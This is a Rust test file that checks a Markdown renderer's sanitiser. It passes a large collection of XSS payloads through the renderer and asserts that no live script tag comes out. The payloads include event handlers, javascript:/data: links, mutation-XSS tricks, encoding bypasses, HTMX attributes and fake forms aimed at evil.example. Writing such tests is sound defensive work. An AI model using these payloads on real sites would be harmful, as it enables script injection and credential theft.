//! Attacks, grouped by the idea behind them. Own collection: written for this subset, after the well-known classes.

use crate::allowed::render;

fn all_harmless(sources: &[&str]) {
    for source in sources {
        let html = render(source);
        // In every place Markdown may stand, not only at the top.
        render(&format!("> {source}"));
        render(&format!("- *{source}*"));
        render(&format!("[{source}](https://x.org)"));
        render(&format!("`{source}`\n\n{source}\n{source}"));
        // Shown as text is fine; a second reading must not bring it to life.
        assert!(!html.contains("<script"), "{source}");
    }
}

#[test]
fn html_elements_are_text() {
    all_harmless(&[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "<script/x>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img/src='x'/onerror=alert(1)//",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=//evil.example>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<link rel=stylesheet href=//evil.example>",
        "<style>@import '//evil.example';</style>",
        "<form action=//evil.example><input name=password><button>Sign in</button></form>",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>",
        "<dialog open>Session over</dialog>",
        "<custom-element onclick=alert(1)>x</custom-element>",
    ]);
}

#[test]
fn htmx_and_template_attributes_are_text() {
    all_harmless(&[
        "<a hx-get=/logout hx-trigger=load>x</a>",
        "<p data-hx-post=/api hx-on:click='alert(1)'>x</p>",
        "<div hx-ws='connect:/live'>x</div>",
        "<div hx-swap-oob='true' id='main'>x</div>",
        "{{ 7*7 }} {% include \"/etc/passwd\" %}",
        "${alert(1)} #{alert(1)}",
    ]);
}

#[test]
fn link_schemes_that_run_are_dropped() {
    all_harmless(&[
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;&#x61;vascript&colon;alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x](  javascript:alert(1))",
        "[x](javascript://https://x.org/%0aalert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "[x](view-source:https://x.org)",
        "[x](file:///etc/passwd)",
        "[x](intent://x#Intent;scheme=http;end)",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "[x]: javascript:alert(1)\n\n[x]",
        "![x](javascript:alert(1))",
    ]);
}

#[test]
fn links_cannot_break_out_of_their_attribute() {
    all_harmless(&[
        "[x](https://x.org/\"onmouseover=alert(1)//)",
        "[x](<https://x.org/\" onmouseover=\"alert(1)>)",
        "[x](https://x.org 'title\" onmouseover=\"alert(1)')",
        "[x](https://x.org/&quot;onclick=alert(1))",
        "[x](https://x.org/'onclick='alert(1))",
        "[x](https://x.org/><script>alert(1)</script>)",
        "https://x.org/\"onmouseover=\"alert(1)",
        "https://x.org/<script>alert(1)</script>",
        "https://x.org/'><img src=x onerror=alert(1)>",
        "<https://x.org/\"onclick=alert(1)>",
        "[x](mailto:a@b.c\"onclick=alert(1))",
        "[x](mailto:a@b.c?subject=<script>)",
        "[\"><script>alert(1)</script>](https://x.org)",
        "[x](https://x.org/`onclick=alert(1)`)",
        "[x](https://\"onclick=alert(1).x.org)",
    ]);
}

#[test]
fn mutation_tricks_stay_text() {
    all_harmless(&[
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<template><script>alert(1)</script></template>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href='javascript:alert(1)'?>",
        "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
        "<plaintext><script>alert(1)</script>",
        "</p></div></main><script>alert(1)</script>",
        "<p/=/onclick=alert(1)>x",
    ]);
}

#[test]
fn encodings_do_not_come_to_life() {
    all_harmless(&[
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
        "&amp;lt;script&amp;gt;alert(1)",
        "\\<script\\>alert(1)\\</script\\>",
        "\u{ff1c}script\u{ff1e}alert(1)",
        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "<\u{feff}script>alert(1)</script>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "+ADw-script+AD4-alert(1)",
        "\u{2028}<script>alert(1)</script>\u{2029}",
    ]);
}

#[test]
fn markdown_seams_leave_no_gap() {
    all_harmless(&[
        "`<script>`alert(1)`</script>`",
        "```\n</code></p><script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\nx\n```",
        "*<img src=x* onerror=alert(1)>",
        "<img src=\"*\" onerror=*alert(1)*>",
        "<a href=\"**https://x.org**\" onclick=alert(1)>x</a>",
        "[a](https://x.org \"<script>\") <b",
        "[a]: <https://x.org/\"onclick=alert(1)//>\n\n[a]",
        "![\"onerror=alert(1)](https://x.org)",
        "[![x](https://a.org \"onerror=alert(1)\")](https://b.org)",
        "# <script>alert(1)</script>",
        "1. <script>\n   alert(1)\n   </script>",
        "<div\n\nonclick=alert(1)>x",
        "|<script>|\n|-|\n|alert(1)|",
        "999999999. <img src=x onerror=alert(1)>",
        "[x](https://x.org)<script>alert(1)</script>[y](https://y.org)",
    ]);
}
